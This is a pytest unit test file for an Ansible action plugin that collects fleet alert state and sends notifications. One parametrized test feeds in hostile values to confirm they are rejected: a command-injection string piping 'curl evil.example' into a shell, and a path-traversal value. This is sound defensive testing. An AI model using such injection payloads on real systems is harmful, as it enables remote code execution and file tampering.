"""tell: each thing is told once for the fleet, and what was told goes back to whoever keeps it."""

from __future__ import annotations

import os
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from ansible.errors import AnsibleActionFail, AnsibleConnectionFailure

from tests.unit.plugins.action.acting import INTRUDER, Answer, Run, act
from tests.unit.plugins.message_factory import alert, message

BAD = message("media1")
GONE = message("media3", check="host_state")
NOTHING = {"messages": [], "new": 0, "acked": 0, "open": [], "suppressed": {}, "dropped": 0, "reset": ""}
CHANNELS = [{"name": "chat", "type": "slack", "url": "https://hooks.example.com/x"}]


class HostVars:
    """As far as an action looks into them."""

    def __init__(self, known: Mapping[str, Any]) -> None:
        self._known = known

    def raw_get(self, host: str) -> dict[str, Any]:
        """Variables of a host, as they were set."""
        return {"__report_alerts": self._known[host]} if self._known[host] is not None else {}


HOSTS: dict[str, Any] = {
    "media1": {**NOTHING, "messages": [BAD], "open": [alert(BAD)]},
    "media2": NOTHING,
    "media3": {"unreachable": True, "msg": "gone"},
    "media4": {"failed": True, "msg": "no state directory"},
    "media5": None,
}
FLEET = {**NOTHING, "messages": [GONE], "open": [alert(GONE)], "changed": True, **INTRUDER}


def delivery(of: Mapping[str, Any]) -> dict[str, Any]:
    """That a message went out."""
    return {"id": of["id"], "host": of["host"], "channels": ["chat"], "complete": True, "dedup_key": of["dedup_key"]}


SENT = {
    "sent": {"chat": 2},
    "folded": {},
    "deferred": {},
    "failures": [],
    "headlines": ["CRITICAL: Overall status on media1"],
    "deliveries": [delivery(BAD), delivery(GONE)],
    "changed": True,
}


def tell(
    directory: Path,
    answers: dict[str, Any] | None = None,
    *,
    hosts: Mapping[str, Any] | None = None,
    check_mode: bool = False,
    **changes: Any,
) -> Run:
    options = {"state_dir": str(directory / "reports/alerts"), "channels": CHANNELS, "title": "Watch", **changes}
    given: dict[str, Any] = {"alert_state": [FLEET, NOTHING], "notify": {**SENT, **INTRUDER}, **(answers or {})}
    known = HOSTS if hosts is None else hosts
    variables = {"hostvars": HostVars(known), "ansible_play_hosts_all": list(known)}
    return act("tell", options, answers=given, variables=variables, check_mode=check_mode)


def test_what_hosts_keep_and_what_the_controller_keeps_goes_out_together(tmp_path: Path) -> None:
    run = tell(tmp_path, contacts=[{"area": "all", "name": "On call", "contact": "+00 1"}], settle=2, report="/r.html")
    assert run.modules == ["alert_state", "notify", "alert_state"]
    kept, sent, acked = (one.arguments for one in run.asked)
    assert (kept["state_dir"], kept["create"]) == (str(tmp_path / "reports/alerts"), True)
    assert (kept["host"], kept["source"], kept["settle"]) == ("localhost", "hosts", 2)
    assert "reminder_after" not in kept
    assert [(row["state"], row["hosts"]) for row in kept["verdicts"]] == [
        ("ok", ["media1", "media2"]),
        ("unknown", ["media3"]),
        ("unknown", ["media4", "media5"]),
    ]
    assert (sent["messages"], sent["open_alerts"]) == ([BAD, GONE], [alert(BAD), alert(GONE)])
    assert (sent["channels"], sent["title"], sent["report_path"]) == (CHANNELS, "Watch", "/r.html")
    assert (acked["state"], acked["deliveries"]) == ("acked", SENT["deliveries"])
    assert run.result == {
        "changed": True,
        "headlines": SENT["headlines"],
        "delivered": {"media1": [delivery(BAD)], "media3": [delivery(GONE)]},
        "problem": "",
    }


OTHERS = message("media1", event="ended", state="ok", was="critical")


@pytest.mark.parametrize(
    "told",
    [
        {"messages": [OTHERS]},
        {"messages": [message("media2", dedup_key=OTHERS["dedup_key"])]},
        {"messages": [message("media2", playbook="x; curl evil.example | sh #")]},
        {"messages": [message("media2", playbook="../../../tmp/evil")]},
        {"messages": [message("media2", severity="fine")]},
        {"messages": [message("media2", event="all_is_well")]},
        {"messages": [message("media2", at="never")]},
        {"messages": [{}]},
        {"open": [alert(BAD)]},
        {"open": [{"host": "media2"}]},
        {"open": ["x"]},
    ],
)
def test_a_host_that_speaks_for_another_or_of_nothing_is_not_listened_to(told: dict[str, Any], tmp_path: Path) -> None:
    liar = {**NOTHING, **told}
    run = tell(tmp_path, hosts={**HOSTS, "media2": liar})
    kept, sent, _acked = (one.arguments for one in run.asked)
    assert (sent["messages"], sent["open_alerts"]) == ([BAD, GONE], [alert(BAD), alert(GONE)])
    (unheard,) = [row["hosts"] for row in kept["verdicts"] if "does not keep its alert state" in row["message"]]
    assert unheard == ["media2", "media4", "media5"]


def test_each_run_has_a_name_of_its_own(tmp_path: Path) -> None:
    names = {tell(tmp_path).asked[0].arguments["run_id"] for _time in range(3)}
    assert len(names) == 3


def test_nothing_of_the_fleet_needs_no_acknowledgement(tmp_path: Path) -> None:
    run = tell(tmp_path, {"alert_state": NOTHING})
    assert run.modules == ["alert_state", "notify"]


@pytest.mark.parametrize(
    ("answer", "problem"),
    [
        (
            {**SENT, "failures": [{"channel": "chat", "reason": "HTTP 404", "waiting": 2}]},
            "Not notified: chat: HTTP 404",
        ),
        ({"failed": True, "msg": "option 'channels[].name' is '*'"}, "option 'channels[].name' is '*'"),
        ({}, "Not notified: no answer"),
        (AnsibleConnectionFailure("gone"), "gone"),
        ({**SENT, "deliveries": "all"}, "the answer of module notify cannot be used: deliveries is not of type list"),
    ],
)
def test_what_was_not_told_is_a_value_that_says_why(tmp_path: Path, answer: Answer, problem: str) -> None:
    assert tell(tmp_path, {"notify": answer}).result["problem"] == problem


@pytest.mark.parametrize("answer", [{"failed": True, "msg": "disk full"}, AnsibleConnectionFailure("disk full")])
def test_what_the_controller_cannot_keep_is_not_told_and_fails(tmp_path: Path, answer: Answer) -> None:
    with pytest.raises(AnsibleActionFail, match="hosts that cannot keep it is not kept: disk full"):
        tell(tmp_path, {"alert_state": answer})


def test_what_was_told_and_cannot_be_noted_fails(tmp_path: Path) -> None:
    with pytest.raises(AnsibleActionFail, match="what was delivered cannot be noted: disk full"):
        tell(tmp_path, {"alert_state": [FLEET, {"failed": True, "msg": "disk full"}]})


def test_a_wrong_answer_of_the_controllers_own_state_is_a_failure(tmp_path: Path) -> None:
    with pytest.raises(AnsibleActionFail, match="messages is not of type list"):
        tell(tmp_path, {"alert_state": {**NOTHING, "messages": {"id": 1}}})


def test_what_a_host_says_it_keeps_counts_only_as_a_list(tmp_path: Path) -> None:
    run = tell(tmp_path, hosts={"media1": {**NOTHING, "messages": "all well"}})
    assert [row["hosts"] for row in run.asked[0].arguments["verdicts"]] == [[], [], ["media1"]]
    assert run.asked[1].arguments["messages"] == [GONE]


def test_the_directory_of_the_reports_is_made_where_no_report_has_made_it(tmp_path: Path) -> None:
    tell(tmp_path, check_mode=True)
    assert not (tmp_path / "reports").exists()
    tell(tmp_path)
    assert (tmp_path / "reports").stat().st_mode & 0o777 == 0o750 & ~_umask()
    tell(tmp_path)


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_a_directory_that_cannot_be_made_is_named(tmp_path: Path) -> None:
    (tmp_path / "reports").write_text("in its place", encoding="utf-8")
    with pytest.raises(AnsibleActionFail, match=f"cannot make the directory {tmp_path}/reports: File exists"):
        tell(tmp_path)


def test_modules_know_that_nothing_is_to_be_sent(tmp_path: Path) -> None:
    (tmp_path / "reports").mkdir()
    assert {one.check_mode for one in tell(tmp_path, check_mode=True).asked} == {True}


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"channels": ["chat"]}, "channels"),
        ({"settle": "soon"}, "settle.*soon"),
        ({"chanels": []}, "media_ops.runbook.tell.*: chanels"),
    ],
)
def test_misuse_names_the_option(tmp_path: Path, changes: dict[str, Any], said: str) -> None:
    with pytest.raises(AnsibleActionFail, match=said):
        tell(tmp_path, **changes)


def test_what_is_needed_is_named() -> None:
    with pytest.raises(AnsibleActionFail, match="missing required arguments: state_dir, title"):
        act("tell", {})
